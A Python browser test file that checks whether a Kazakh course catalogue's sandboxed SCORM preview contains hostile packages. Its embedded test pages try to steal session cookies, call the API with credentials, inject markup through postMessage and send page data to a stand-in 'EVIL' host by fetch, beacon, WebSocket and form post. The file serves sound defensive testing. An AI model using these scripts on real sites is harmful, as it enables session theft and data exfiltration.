"""Package previews in a real Chromium, against the catalogue served over HTTP.

The must-hold: a package whose script reaches for the signed-in visitor's cookie and API
gets nothing, and the visitor stays signed in. And the sample course plays in the preview
while the panel beside it shows what an LMS would receive (a screenshot goes to
``tests/artifacts/preview-panel.png``).

The catalogue runs in a thread (werkzeug's server on 127.0.0.1) on SQLite only: the
browser is what is tested here, and the database does not change what it sees.
"""

from __future__ import annotations

import contextlib
import json
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar
from urllib.parse import urlencode

import pytest
from flask import Flask, render_template_string, request
from playwright.sync_api import (
    Browser,
    BrowserContext,
    ConsoleMessage,
    FrameLocator,
    Page,
    expect,
)
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from catalogue.models import Role, State
from catalogue.web.common.pages import public
from scorm_builder.build import BuildResult
from tests.catalogue.test_preview import KAZAKH_PAGE, store
from tests.support.axe import serious_violations
from tests.support.catalogue import PASSWORD, add_resource, add_user
from tests.support.live_server import live_server
from tests.support.lms_harness import BROWSER_WAIT_MS

pytestmark = pytest.mark.browser

ARTIFACTS = Path(__file__).resolve().parents[1] / "artifacts"
SECRET_TITLE = "Құпия сабақ: әріптер ғана"

#: The test page: the preview macro inside the catalogue's layout, as a resource page has it.
PAGE = """{% extends "base.html" %}
{% from "_preview.html" import preview %}
{% block title %}{{ title }}{% endblock %}
{% block content %}
<h1>{{ title }}</h1>
{{ preview(preview_url(sha256), title) }}
{% endblock %}"""

#: Any preview URL in the catalogue's frame: what a copied link would get in a page.
FRAME = """{% extends "base.html" %}
{% block title %}frame{% endblock %}
{% block content %}
<iframe class="preview-frame" sandbox="allow-scripts allow-forms allow-modals" src="{{ src }}"
  title="frame"></iframe>
{% endblock %}"""

HOSTILE_PAGE = """<!DOCTYPE html>
<html lang="kk">
<head><meta charset="utf-8"><title>Зиянды пакет</title></head>
<body>
<h1>Зиянды пакет</h1>
<img src="pixel.svg" alt="">
<pre id="report"></pre>
<script>
(async function () {
  var report = {};
  try { report.cookie = "read:" + document.cookie; }
  catch (e) { report.cookie = "denied:" + e.name; }
  try {
    var answer = await fetch("/api/v1/me/resources", {credentials: "include"});
    report.fetch = "status " + answer.status + ": " + (await answer.text()).slice(0, 300);
  } catch (e) { report.fetch = "failed:" + e.name; }
  try {
    var absolute = await fetch(new URL("/api/v1/me/resources", location.href).href,
                               {credentials: "include", mode: "no-cors"});
    report.absolute = "status " + absolute.status + " " + absolute.type;
  } catch (e) { report.absolute = "failed:" + e.name; }
  report.xhr = await new Promise(function (resolve) {
    try {
      var xhr = new XMLHttpRequest();
      xhr.open("GET", "/api/v1/resources");
      xhr.withCredentials = true;
      xhr.onload = function () { resolve("status " + xhr.status + ": " + xhr.responseText); };
      xhr.onerror = function () { resolve("failed:error"); };
      xhr.send();
    } catch (e) { resolve("failed:" + e.name); }
  });
  try { report.parentCookie = "read:" + parent.document.cookie; }
  catch (e) { report.parentCookie = "denied:" + e.name; }
  try { report.parentPage = "read:" + parent.document.body.innerHTML.slice(0, 300); }
  catch (e) { report.parentPage = "denied:" + e.name; }
  if (window !== top) {
    try { top.location = "/api/v1/me/resources"; report.topLocation = "no error"; }
    catch (e) { report.topLocation = "denied:" + e.name; }
  }
  try { localStorage.setItem("k", "v"); report.localStorage = "read:" + localStorage.getItem("k"); }
  catch (e) { report.localStorage = "denied:" + e.name; }
  try { report.sameOrigin = String(window.origin); } catch (e) { report.sameOrigin = e.name; }
  // A spoofed call for the panel: it must show the text, never run it as markup.
  top.postMessage({sandyq: "scorm-call", version: "2004", method: "<img src=x id=pwned>",
                   element: "cmi.location", value: "<b>bold</b>", result: "true", error: "0"}, "*");
  document.getElementById("report").textContent = JSON.stringify(report);
  parent.postMessage({hostile: report}, "*");
})();
</script>
</body>
</html>
"""

LETTERS = "Ә, Ғ, Қ, Ң, Ө, Ұ, Ү, Һ, І"

PIXEL = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'

HOSTILE_MANIFEST = """<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="hostile" version="1" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1"
  xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3">
  <metadata><schema>ADL SCORM</schema><schemaversion>2004 4th Edition</schemaversion></metadata>
  <organizations default="o"><organization identifier="o"><title>Зиянды</title>
    <item identifier="i" identifierref="r"><title>Зиянды</title></item>
  </organization></organizations>
  <resources>
    <resource identifier="r" type="webcontent" adlcp:scormType="sco" href="index.html">
      <file href="index.html"/>
    </resource>
  </resources>
</manifest>
"""


@pytest.fixture
def live(app: Flask) -> Iterator[str]:
    """The catalogue over HTTP, with a test page that embeds a preview:
    ``/_preview/<sha256>``, and one that frames any URL: ``/_frame?src=``. Every request is
    counted in ``app.config["SEEN"]`` with whether the session cookie came along."""
    seen: list[tuple[str, bool]] = []
    app.config["SEEN"] = seen

    @public
    def preview_page(sha256: str) -> str:
        return render_template_string(PAGE, sha256=sha256, title="Ньютон заңдары: алдын ала қарау")

    @public
    def frame_page() -> str:
        return render_template_string(FRAME, src=request.args["src"])

    def count() -> None:
        seen.append((request.path, app.config["SESSION_COOKIE_NAME"] in request.cookies))

    app.add_url_rule("/_preview/<sha256>", "preview_page", preview_page)
    app.add_url_rule("/_frame", "frame_page", frame_page)
    app.before_request(count)
    with live_server(app) as base:
        yield base


def sign_in(context: BrowserContext, base: str, email: str) -> Page:
    page = context.new_page()
    page.goto(f"{base}/login?next=/")
    page.fill("#f-email", email)
    page.fill("#f-password", PASSWORD)
    page.click("button[type=submit].primary")
    page.wait_for_url(f"{base}/")
    return page


def session_of(app: Flask, cookies: BrowserContext | list[Any]) -> dict[str, Any]:
    """Who the browser's HttpOnly session cookie signs in (its CSRF token left out)."""
    jar = cookies.cookies() if isinstance(cookies, BrowserContext) else cookies
    name = app.config["SESSION_COOKIE_NAME"]
    found = [c for c in jar if c["name"] == name and c.get("httpOnly")]
    assert len(found) == 1, jar
    serializer = app.session_interface.get_signing_serializer(app)  # type: ignore[attr-defined]
    data: dict[str, Any] = serializer.loads(found[0]["value"])
    return {key: value for key, value in data.items() if key == "user_id"}


def my_resources(page: Page) -> Any:
    """What the catalogue's own page gets from the API with the visitor's session."""
    return page.evaluate(
        """async () => {
          const answer = await fetch("/api/v1/me/resources");
          return {status: answer.status, body: await answer.text()};
        }"""
    )


def report_of(frame: FrameLocator | Page) -> dict[str, str]:
    report = frame.locator("#report")
    expect(report).not_to_be_empty()
    found: dict[str, str] = json.loads(report.text_content() or "{}")
    return found


def assert_got_nothing(report: dict[str, str]) -> None:
    assert report["cookie"].startswith("denied:SecurityError"), report
    assert report["fetch"].startswith("failed:"), report
    assert report["absolute"].startswith("failed:"), report
    assert report["xhr"].startswith("failed:"), report
    assert report["localStorage"].startswith("denied:"), report
    assert report["sameOrigin"] == "null", report  # an opaque origin
    text = json.dumps(report, ensure_ascii=False)
    assert SECRET_TITLE not in text and json.dumps(SECRET_TITLE)[1:-1] not in text


def titles(body: str) -> list[str]:
    return [item["title"] for item in json.loads(body)["items"]]


# ---- the must-hold ------------------------------------------------------------------


@pytest.mark.parametrize("app", ["sqlite"], indirect=True)
def test_a_hostile_package_gets_nothing_from_the_signed_in_visitor(
    app: Flask, live: str, browser: Browser
) -> None:
    teacher = add_user(app, "aigerim@example.kz", Role.TEACHER, name="Әйгерім", password=True)
    add_resource(app, teacher, State.DRAFT, title_kk=SECRET_TITLE)
    sha256 = store(
        app, {"imsmanifest.xml": HOSTILE_MANIFEST, "index.html": HOSTILE_PAGE, "pixel.svg": PIXEL}
    )
    context = browser.new_context(locale="kk-KZ")
    try:
        page = sign_in(context, live, teacher.email)
        cookies = context.cookies()
        assert session_of(app, cookies) == {"user_id": teacher.id}
        control = my_resources(page)  # the same request from the catalogue itself works
        assert control["status"] == 200 and titles(control["body"]) == [SECRET_TITLE]

        seen: list[tuple[str, bool]] = app.config["SEEN"]
        seen.clear()
        # Chromium reports the top navigation it refused (the package sets top.location
        # before it writes its report); had it allowed it, the page would be elsewhere.
        with page.expect_console_message(refused_top_navigation):
            page.goto(f"{live}/_preview/{sha256}")
            frame = page.frame_locator("iframe.preview-frame")
            embedded = report_of(frame)
        assert_got_nothing(embedded)
        assert embedded["parentCookie"].startswith("denied:SecurityError"), embedded
        assert embedded["parentPage"].startswith("denied:SecurityError"), embedded
        assert page.url == f"{live}/_preview/{sha256}"

        # The spoofed panel message is shown as text, not run as markup.
        panel = page.locator(".preview-panel")
        expect(panel.locator("td", has_text="<img src=x id=pwned>")).to_have_count(1)
        assert page.locator("#pwned").count() == 0
        assert panel.locator("b").count() == 0

        # Opened on its own (a new tab) it is refused: no parent would keep it home.
        alone = context.new_page()
        answer = alone.goto(frame_url(page))
        assert answer is not None and answer.status == 403
        assert alone.locator("#report").count() == 0
        alone.close()

        assert [path for path, _ in seen if path.startswith("/api/")] == [], "it reached the API"
        # Only the frame's document, requested by the catalogue page (or the new tab), may
        # carry the session cookie; what the package itself asks for comes from its opaque
        # origin (with the preview cookie only, which opens previews and nothing else).
        package_requests = [(p, c) for p, c in seen if p.startswith("/preview/")]
        assert any(p.endswith("/pixel.svg") for p, _ in package_requests)
        assert [p for p, c in package_requests if c and not p.endswith("/index.html")] == []

        # Still signed in as the same person (the cookie's timestamp is refreshed on use).
        assert session_of(app, context) == session_of(app, cookies) == {"user_id": teacher.id}
        after = my_resources(page)
        assert after["status"] == 200 and titles(after["body"]) == [SECRET_TITLE]
    finally:
        context.close()


def refused_top_navigation(message: ConsoleMessage) -> bool:
    return message.text.startswith("Unsafe attempt to initiate navigation")


def frame_url(page: Page) -> str:
    frame = next(f for f in page.frames if "/preview/" in f.url)
    return frame.url


# ---- the sample course plays and the panel shows its calls --------------------------

CALLS = {
    "scorm12": ("LMSInitialize", "LMSSetValue", "cmi.core.lesson_status", "LMSFinish"),
    "scorm2004-4th": ("Initialize", "SetValue", "cmi.completion_status", "Terminate"),
}


OFFLINE_PROBE = """() => {
  const runtime = SandyqRuntime.create({scorm: "2004", window: {}, storageKey: "probe"});
  const started = runtime.start();
  let storage = "readable";
  try { localStorage.getItem("probe"); } catch (e) { storage = e.name; }
  return {mode: started.mode, located: runtime.setLocation("3"), storage: storage};
}"""


@pytest.mark.parametrize("app", ["sqlite"], indirect=True)
@pytest.mark.parametrize("label", ["scorm12", "scorm2004-4th"])
def test_the_sample_course_plays_and_the_panel_shows_its_calls(
    app: Flask,
    live: str,
    page: Page,
    built_package: Callable[[str], BuildResult],
    label: str,
) -> None:
    initialize, set_value, status, finish = CALLS[label]
    package = built_package(label).output
    from catalogue.storage import storage

    with app.app_context(), package.open("rb") as stream:
        sha256, _ = storage().put(stream)
    page.goto(f"{live}/_preview/{sha256}")
    panel = page.locator(".preview-panel")
    log = panel.locator("tbody")
    # Folded until asked for, and recording all the same: the first call is already there.
    expect(log.locator("tr", has_text=initialize).first).to_be_attached()
    expect(panel).to_be_hidden()
    show_technical_details(page)
    expect(log.locator("tr", has_text=initialize).first).to_be_visible()
    expect(panel.locator("[data-field=session]")).to_have_attribute("data-state", "running")

    player = page.frame_locator("iframe.preview-frame")
    location = panel.locator("[data-field=location]")
    expect(location).to_have_text("0")
    pages = player.locator("#sandyq-toc li").count()
    for number in range(2, pages + 1):
        player.locator("#sandyq-next").click()
        expect(player.locator("#sandyq-status")).to_contain_text(str(number))
        # The player updates its status at once but counts a page only once the page has
        # loaded and said so (then it sets the location): a click before that would skip
        # the page, and the course would never be completed.
        expect(location).to_have_text(str(number - 1))
    completed = log.locator("tr", has_text=set_value).filter(has_text=status)
    expect(completed.filter(has_text="completed").first).to_be_visible()
    expect(panel.locator("[data-field=completion]")).to_have_text("completed")
    expect(panel.locator("[data-field=version]")).to_have_text(
        "SCORM 1.2" if label == "scorm12" else "SCORM 2004"
    )
    failed = log.locator("tr.preview-failed")
    assert failed.count() == 0, failed.all_text_contents()

    # Without an LMS the runtime keeps progress in localStorage, which an opaque origin
    # refuses with a SecurityError: it must carry on regardless.
    shell = next(frame for frame in page.frames if frame.url.endswith("/index.html"))
    offline = shell.evaluate(OFFLINE_PROBE)
    assert offline == {"mode": "offline", "located": True, "storage": "SecurityError"}

    if label == "scorm2004-4th":
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "preview-panel.png"), full_page=True)

    # The error checks are hidden until asked for.
    checks = log.locator("tr[data-inquiry]")
    assert checks.count() > 0
    expect(checks.first).to_be_hidden()
    panel.get_by_role("checkbox").check()
    expect(checks.first).to_be_visible()

    player.locator("#sandyq-exit").click()
    expect(panel.locator("[data-field=session]")).to_have_attribute("data-state", "finished")
    expect(log.locator("tr", has_text=finish)).to_have_count(1)


@pytest.mark.parametrize("app", ["sqlite"], indirect=True)
def test_the_preview_page_passes_axe_and_keyboard(
    app: Flask, live: str, page: Page, built_package: Callable[[str], BuildResult]
) -> None:
    from catalogue.storage import storage

    with app.app_context(), built_package("scorm2004-4th").output.open("rb") as stream:
        sha256, _ = storage().put(stream)
    page.goto(f"{live}/_preview/{sha256}")
    expect(page.locator(".preview-panel tbody tr").first).to_be_attached()
    assert serious_violations(page) == []
    # Keyboard: the folded details open with Enter, then the checkbox and the scrolling
    # log can be reached with Tab.
    summary = page.locator(".preview-technical > summary")
    summary.focus()
    page.keyboard.press("Enter")
    expect(page.locator(".preview-panel")).to_be_visible()
    assert serious_violations(page) == []
    reached = set()
    for _ in range(60):
        page.keyboard.press("Tab")
        reached.add(
            page.evaluate("document.activeElement.className || document.activeElement.type")
        )
    assert "checkbox" in reached
    assert any("preview-log" in name for name in reached)


def show_technical_details(page: Page) -> None:
    """Unfold the SCORM panel, as a curious author would."""
    page.locator(".preview-technical > summary").click()
    expect(page.locator(".preview-panel")).to_be_visible()


# ---- the preview LMS answers like an LMS --------------------------------------------

LMS_SCRIPT = """() => {
  const a = window.API_1484_11, b = window.API, out = {};
  window.__calls = [];
  window.addEventListener("message", (event) => window.__calls.push(event.data));
  const v4 = (name, fn) => { out[name] = [String(fn()), a.GetLastError()]; };
  const v2 = (name, fn) => { out[name] = [String(fn()), b.LMSGetLastError()]; };
  v4("get before", () => a.GetValue("cmi.location"));
  v4("set before", () => a.SetValue("cmi.location", "1"));
  v4("commit before", () => a.Commit(""));
  v4("terminate before", () => a.Terminate(""));
  v4("initialize", () => a.Initialize(""));
  v4("initialize again", () => a.Initialize(""));
  v4("mode", () => a.GetValue("cmi.mode"));
  v4("entry", () => a.GetValue("cmi.entry"));
  v4("completion", () => a.GetValue("cmi.completion_status"));
  v4("location unset", () => a.GetValue("cmi.location"));
  v4("bad vocabulary", () => a.SetValue("cmi.completion_status", "done"));
  v4("out of range", () => a.SetValue("cmi.score.scaled", "2"));
  v4("read-only", () => a.SetValue("cmi.mode", "review"));
  v4("write-only", () => a.GetValue("cmi.exit"));
  v4("undefined", () => a.GetValue("cmi.nonsense"));
  v4("type before id", () => a.SetValue("cmi.interactions.0.type", "choice"));
  v4("id", () => a.SetValue("cmi.interactions.0.id", "q1"));
  v4("count", () => a.GetValue("cmi.interactions._count"));
  v4("gap", () => a.SetValue("cmi.interactions.2.id", "q3"));
  v4("set location", () => a.SetValue("cmi.location", "Қ-2 бөлім"));
  v4("get location", () => a.GetValue("cmi.location"));
  v4("terminate", () => a.Terminate(""));
  v4("get after", () => a.GetValue("cmi.location"));
  v4("set after", () => a.SetValue("cmi.location", "1"));
  v4("commit after", () => a.Commit(""));
  v4("terminate after", () => a.Terminate(""));
  v4("initialize after", () => a.Initialize(""));
  v2("1.2 get before", () => b.LMSGetValue("cmi.core.lesson_status"));
  v2("1.2 initialize", () => b.LMSInitialize(""));
  v2("1.2 initialize again", () => b.LMSInitialize(""));
  v2("1.2 status", () => b.LMSGetValue("cmi.core.lesson_status"));
  v2("1.2 not attempted", () => b.LMSSetValue("cmi.core.lesson_status", "not attempted"));
  v2("1.2 raw 101", () => b.LMSSetValue("cmi.core.score.raw", "101"));
  v2("1.2 write-only", () => b.LMSGetValue("cmi.core.session_time"));
  v2("1.2 read-only", () => b.LMSSetValue("cmi.core.student_name", "x"));
  v2("1.2 keyword", () => b.LMSSetValue("cmi.core._children", "x"));
  v2("1.2 no children", () => b.LMSGetValue("cmi.core.lesson_status._children"));
  v2("1.2 no count", () => b.LMSGetValue("cmi.core._count"));
  v2("1.2 undefined", () => b.LMSGetValue("cmi.bogus"));
  out["name"] = b.LMSGetValue("cmi.core.student_name");
  v2("1.2 finish", () => b.LMSFinish(""));
  v2("1.2 get after", () => b.LMSGetValue("cmi.core.lesson_status"));
  out["1.2 message"] = b.LMSGetErrorString("301");
  return out;
}"""

EXPECTED = {
    "get before": ["", "122"],
    "set before": ["false", "132"],
    "commit before": ["false", "142"],
    "terminate before": ["false", "112"],
    "initialize": ["true", "0"],
    "initialize again": ["false", "103"],
    "mode": ["normal", "0"],
    "entry": ["ab-initio", "0"],
    "completion": ["unknown", "0"],
    "location unset": ["", "403"],
    "bad vocabulary": ["false", "406"],
    "out of range": ["false", "407"],
    "read-only": ["false", "404"],
    "write-only": ["", "405"],
    "undefined": ["", "401"],
    "type before id": ["false", "408"],
    "id": ["true", "0"],
    "count": ["1", "0"],
    "gap": ["false", "351"],
    "set location": ["true", "0"],
    "get location": ["Қ-2 бөлім", "0"],
    "terminate": ["true", "0"],
    "get after": ["", "123"],
    "set after": ["false", "133"],
    "commit after": ["false", "143"],
    "terminate after": ["false", "113"],
    "initialize after": ["false", "104"],
    "1.2 get before": ["", "301"],
    "1.2 initialize": ["true", "0"],
    "1.2 initialize again": ["false", "101"],
    "1.2 status": ["not attempted", "0"],
    "1.2 not attempted": ["false", "405"],
    "1.2 raw 101": ["false", "405"],
    "1.2 write-only": ["", "404"],
    "1.2 read-only": ["false", "403"],
    "1.2 keyword": ["false", "402"],
    "1.2 no children": ["", "202"],
    "1.2 no count": ["", "203"],
    "1.2 undefined": ["", "201"],
    "1.2 finish": ["true", "0"],
    "1.2 get after": ["", "301"],
    "1.2 message": "Not initialized",
}


@pytest.mark.parametrize("app", ["sqlite"], indirect=True)
def test_the_preview_lms_answers_with_the_standard_codes(app: Flask, live: str, page: Page) -> None:
    page_html = "<!DOCTYPE html><html lang=kk><head><title>Бос</title></head><body></body></html>"
    sha256 = store(app, {"index.html": page_html})
    page.goto(f"{live}/_preview/{sha256}")
    # the calls go to the catalogue page around the frame (window.top)
    page.evaluate(
        """() => { window.__calls = [];
                   window.addEventListener("message", (e) => window.__calls.push(e.data)); }"""
    )
    frame = next(f for f in page.frames if "/preview/" in f.url)
    frame.wait_for_function("window.API_1484_11 !== undefined")
    answers = frame.evaluate(LMS_SCRIPT)
    name = answers.pop("name")
    assert answers == EXPECTED
    assert name and "," in name  # 1.2 names are "Family, Given"
    page.wait_for_function("window.__calls.length > 40")
    calls = page.evaluate("window.__calls")
    assert all(call["sandyq"] == "scorm-call" for call in calls)
    first_set = next(c for c in calls if c["method"] == "SetValue" and c["result"] == "true")
    assert first_set == {
        "sandyq": "scorm-call",
        "version": "2004",
        "method": "SetValue",
        "element": "cmi.interactions.0.id",
        "value": "q1",
        "result": "true",
        "error": "0",
    }


# ---- no request leaves the catalogue ------------------------------------------------

#: A package that names another host every way a page can: a popup, a link to a new
#: window, fetch, an image, a beacon, a WebSocket, a nested frame, a prefetch, a form, and
#: at last the frame itself navigating there. ``EVIL`` is replaced by that host's URL.
LEAKY_PAGE = """<!DOCTYPE html>
<html lang="kk">
<head><meta charset="utf-8"><title>Сыр шашатын пакет</title>
<link rel="prefetch" href="EVIL/prefetch"><link rel="dns-prefetch" href="EVIL/">
<link rel="stylesheet" href="EVIL/style.css"></head>
<body>
<form id="form" method="post" action="EVIL/form"><input name="who" value="reviewer"></form>
<script>
(async function () {
  var evil = "EVIL", report = {}, refused = [];  // refused: what this document was refused
  document.addEventListener("securitypolicyviolation", function (e) {
    refused.push(e.violatedDirective + " " + e.blockedURI);
  });
  try { report.open = window.open(evil + "/open?" + location.href) === null ? "null" : "window"; }
  catch (e) { report.open = "denied:" + e.name; }
  var link = document.createElement("a");
  link.href = evil + "/link"; link.target = "_blank"; document.body.appendChild(link);
  link.click();
  try { await fetch(evil + "/fetch?" + location.href, {mode: "no-cors"}); report.fetch = "sent"; }
  catch (e) { report.fetch = "failed:" + e.name; }
  report.image = await new Promise(function (resolve) {
    var image = new Image();
    image.onload = function () { resolve("loaded"); };
    image.onerror = function () { resolve("failed"); };
    image.src = evil + "/pixel.png";
  });
  try { report.beacon = String(navigator.sendBeacon(evil + "/beacon", "x")); }
  catch (e) { report.beacon = "denied:" + e.name; }
  report.socket = await new Promise(function (resolve) {
    try {
      var socket = new WebSocket(evil.replace("http", "ws") + "/socket");
      socket.onopen = function () { resolve("open"); };
      socket.onerror = function () { resolve("failed"); };
    } catch (e) { resolve("denied:" + e.name); }
  });
  report.refused = refused;
  top.postMessage({leaky: report}, "*");
  var nested = document.createElement("iframe");
  nested.src = evil + "/frame"; document.body.appendChild(nested);
  document.getElementById("form").submit();
  location.href = evil + "/navigate?" + location.href;  // the parent's frame-src refuses it
})();
</script>
</body>
</html>
"""


#: The catalogue page keeps what the package reports (the frame itself navigates on).
LISTEN = """window.addEventListener("message", (event) => {
  if (event.data && event.data.leaky) window.__leaky = event.data.leaky;
});"""


class Recorder(BaseHTTPRequestHandler):
    """Another host: it records every request that reaches it and answers 200."""

    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        Recorder.seen.append(f"GET {self.path}")
        self.send_response(200)
        self.send_header("Content-Type", "image/svg+xml")
        self.end_headers()
        self.wfile.write(PIXEL.encode())

    def do_POST(self) -> None:  # noqa: N802
        Recorder.seen.append(f"POST {self.path}")
        self.send_response(200)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
        pass


@pytest.fixture
def other_host() -> Iterator[tuple[str, list[str]]]:
    """A second HTTP server on 127.0.0.1 (another port): its URL and the requests it got."""
    Recorder.seen = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", Recorder.seen
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("app", ["sqlite"], indirect=True)
def test_a_package_reaches_no_other_host(
    app: Flask, live: str, browser: Browser, other_host: tuple[str, list[str]]
) -> None:
    evil, seen = other_host
    reviewer = add_user(app, "berik@example.kz", Role.REVIEWER, name="Берік", password=True)
    leaky = LEAKY_PAGE.replace("EVIL", evil)
    sha256 = store(app, {"imsmanifest.xml": HOSTILE_MANIFEST, "index.html": leaky})
    context = browser.new_context(locale="kk-KZ")
    try:
        page = sign_in(context, live, reviewer.email)
        popups: list[Page] = []
        context.on("page", lambda opened: popups.append(opened))
        page.add_init_script(LISTEN)
        told: list[str] = []
        page.on("console", lambda message: told.append(message.text))
        page.goto(f"{live}/_preview/{sha256}")
        report = page.wait_for_function("() => window.__leaky").json_value()
        # Then the nested frame, the form and the frame's own navigation, each refused.
        if not all_refused(told):
            with contextlib.suppress(PlaywrightTimeout):
                page.wait_for_event("console", lambda _: all_refused(told), timeout=BROWSER_WAIT_MS)
        assert all_refused(told), "\n".join(told)
        assert report["open"] == "null", report  # no allow-popups: window.open opens nothing
        assert report["fetch"].startswith("failed:"), report
        assert report["image"] == "failed", report
        assert report["socket"] in ("failed", "denied:SecurityError"), report
        refused = " ".join(report["refused"])
        for directive in ("connect-src", "img-src", "style-src"):
            assert directive in refused, report
        assert popups == []
        assert seen == [], "the package reached another host"
        # The control: this browser does reach the other host when a page of its own asks.
        page.goto(f"{evil}/control")
        assert seen[0] == "GET /control"
    finally:
        context.close()


def all_refused(told: list[str]) -> bool:
    """Chromium has reported refusing the nested frame (the package's own ``frame-src``)
    and the frame navigating itself away, by the form or by ``location`` (the catalogue
    page's ``frame-src 'self'``; its report names the other host's origin only)."""
    text = "\n".join(told)
    return "frame-src 127.0.0.1" in text and "frame-src 'self'" in text


# ---- the link is short-lived and its holder's only ------------------------------------


def framed(page: Page, live: str, src: str) -> FrameLocator:
    page.goto(f"{live}/_frame?{urlencode({'src': src})}")
    return page.frame_locator("iframe.preview-frame")


def expect_refused(app: Flask, frame: FrameLocator) -> None:
    """The frame shows the catalogue's 403 page, which says to reload for a new link."""
    from flask_babel import force_locale, gettext

    with app.test_request_context(), force_locale("kk"):
        reason = gettext("This preview link has expired. Reload the page to get a new one.")
    expect(frame.locator("p.lead")).to_have_text(reason)


def launch_link(page: Page) -> str:
    src = page.locator("iframe.preview-frame").get_attribute("src")
    assert src is not None and src.startswith("/preview/")
    return src


def preview_key_of(app: Flask, context: BrowserContext) -> str:
    jar = context.cookies()
    name = app.config["SESSION_COOKIE_NAME"]
    value = next(c["value"] for c in jar if c["name"] == name)
    serializer = app.session_interface.get_signing_serializer(app)  # type: ignore[attr-defined]
    key: str = serializer.loads(value)["preview_key"]
    return key


@pytest.mark.parametrize("app", ["sqlite"], indirect=True)
def test_a_link_works_only_for_its_user_in_its_session_and_for_a_while(
    app: Flask, live: str, browser: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    from catalogue.web.common.preview import preview_token

    aigerim = add_user(app, "aigerim@example.kz", Role.REVIEWER, name="Әйгерім", password=True)
    berik = add_user(app, "berik@example.kz", Role.REVIEWER, name="Берік", password=True)
    sha256 = store(app, {"index.html": KAZAKH_PAGE})
    hers, his = browser.new_context(locale="kk-KZ"), browser.new_context(locale="kk-KZ")
    try:
        page = sign_in(hers, live, aigerim.email)
        page.goto(f"{live}/_preview/{sha256}")
        expect(page.frame_locator("iframe.preview-frame").locator("h1")).to_have_text(LETTERS)
        link = launch_link(page)
        # The same link in her own page again: it plays (the control for what follows).
        expect(framed(page, live, link).locator("h1")).to_have_text(LETTERS)

        # Another user, in another browser, gets nothing from her link.
        other = sign_in(his, live, berik.email)
        expect_refused(app, framed(other, live, link))

        # A link of hers, made 31 minutes ago, is refused even in her own session.
        key = preview_key_of(app, hers)
        long_ago = time.time() - 31 * 60
        with app.test_request_context():
            fresh = preview_token(sha256, user_id=aigerim.id, key=key)
            with monkeypatch.context() as patch:
                patch.setattr("itsdangerous.timed.time.time", lambda: long_ago)
                expired = preview_token(sha256, user_id=aigerim.id, key=key)
        expect(framed(page, live, f"/preview/{fresh}/index.html").locator("h1")).to_have_text(
            LETTERS
        )
        expect_refused(app, framed(page, live, f"/preview/{expired}/index.html"))

        # Signed out, her own link is refused in her own browser.
        page.goto(f"{live}/")
        page.locator("form[action$='/logout'] button").first.click()
        page.wait_for_url(f"{live}/**")
        expect_refused(app, framed(page, live, link))
    finally:
        hers.close()
        his.close()
